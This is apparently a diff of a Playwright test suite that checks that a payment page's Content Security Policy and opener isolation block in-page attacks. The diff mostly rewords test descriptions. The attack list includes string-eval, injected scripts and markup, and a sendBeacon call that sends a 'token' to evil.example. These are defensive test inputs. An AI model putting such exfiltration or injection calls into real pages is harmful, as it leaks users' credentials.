@@ -3,14 +3,14 @@ import { expect, test } from "../../fixtures/fixtures.ts";
 import { mockedLink } from "../../mockGateway/mockedLink.ts";
 import { newPayment } from "../../mockGateway/mockedOrder.ts";
 
-/** What somebody who got a foot into the page would try, and the directive that stops it. */
+/** Attempts of an attacker inside the page, and the directive that stops each. */
 const breaches: readonly {
   readonly what: string;
   readonly directive: string;
   readonly act: (page: Page) => Promise<unknown>;
 }[] = [
   {
-    what: "a script written into the page",
+    what: "an inline script",
     directive: "require-trusted-types-for",
     act: (page) =>
       page.evaluate(() => {
@@ -20,7 +20,7 @@ const breaches: readonly {
       }),
   },
   {
-    what: "a script of another origin",
+    what: "a script from another origin",
     directive: "require-trusted-types-for",
     act: (page) =>
       page.evaluate(() => {
@@ -28,7 +28,7 @@ const breaches: readonly {
       }),
   },
   {
-    what: "markup made of a text",
+    what: "markup made from a string",
     directive: "require-trusted-types-for",
     act: (page) =>
       page.evaluate(() => {
@@ -36,7 +36,7 @@ const breaches: readonly {
       }),
   },
   {
-    what: "a policy that would let texts be markup",
+    what: "a Trusted Types policy that allows strings as markup",
     directive: "trusted-types",
     act: (page) =>
       page.evaluate(() => {
@@ -46,11 +46,11 @@ const breaches: readonly {
       }),
   },
   {
-    what: "a text that is run",
+    what: "a string that is run as code",
     directive: "require-trusted-types-for",
     act: (page) =>
       page.evaluate(() => {
-        // oxlint-disable-next-line typescript/no-implied-eval, no-implied-eval -- this is what the test is about
+        // oxlint-disable-next-line typescript/no-implied-eval, no-implied-eval -- the test is about this call
         setTimeout("document.title = 'broken'");
       }),
   },
@@ -74,7 +74,7 @@ const breaches: readonly {
       }),
   },
   {
-    what: "a style written into the page",
+    what: "an inline style sheet",
     directive: "style-src-elem",
     act: (page) =>
       page.evaluate(() => {
@@ -94,7 +94,7 @@ const breaches: readonly {
     act: (page) => page.evaluate(() => navigator.sendBeacon("https://evil.example/", "token")),
   },
   {
-    what: "a picture of another origin",
+    what: "a picture from another origin",
     directive: "img-src",
     act: (page) =>
       page.evaluate(() => {
@@ -122,7 +122,7 @@ const breaches: readonly {
       }),
   },
   {
-    what: "another base for addresses",
+    what: "another base URL",
     directive: "base-uri",
     act: (page) =>
       page.evaluate(() => {
@@ -141,12 +141,12 @@ const breaches: readonly {
           // oxlint-disable-next-line no-new
           new Worker(address);
         } catch {
-          // Some are refused with a word.
+          // Some attempts throw.
         }
       }),
   },
   {
-    what: "a form that is sent elsewhere",
+    what: "a form for another origin",
     directive: "form-action",
     act: (page) =>
       page.evaluate(() => {
@@ -158,7 +158,7 @@ const breaches: readonly {
   },
 ];
 
-test("whatever would run, load or send something else is stopped, and fails the test in which it is tried", async ({
+test("the policy stops foreign code, loads and calls, and each attempt fails its test", async ({
   customer,
   faults,
   gateway,
@@ -200,7 +200,7 @@ test("the page may not be framed", async ({ page, webApp }) => {
   expect(await frame?.evaluate(() => document.querySelector("#root"))).toBeNull();
 });
 
-test("who opens the page in a window of its own is told when it is closed, reads nothing of it, and leads it nowhere", async ({
+test("an opener sees that the page's window is closed, but cannot read or navigate it", async ({
   context,
   faults,
   page,
@@ -226,14 +226,16 @@ test("who opens the page in a window of its own is told when it is closed, reads
       }
     });
   expect(await look()).toEqual({ closed: false, frames: 0, isRead: false });
-  expect(await payment.evaluate(() => opener), "nor has it a hold on the shop's").toBeNull();
+  expect(await payment.evaluate(() => opener), "the page has no opener").toBeNull();
   const before = payment.url();
   const leading = page.evaluate(() => {
     const held: Window = Reflect.get(globalThis, "opened");
     held.location.replace("https://shop.example/elsewhere");
   });
-  await expect(leading, "nor is it led elsewhere").rejects.toThrow("does not have permission");
-  // Chromium says so in the console too.
+  await expect(leading, "the opener cannot navigate the page").rejects.toThrow(
+    "does not have permission",
+  );
+  // Chromium also reports it in the console.
   const refusal = /Unsafe attempt to initiate navigation/;
   await expect.poll(() => faults.found.join("\n")).toMatch(refusal);
   faults.forgive(refusal);
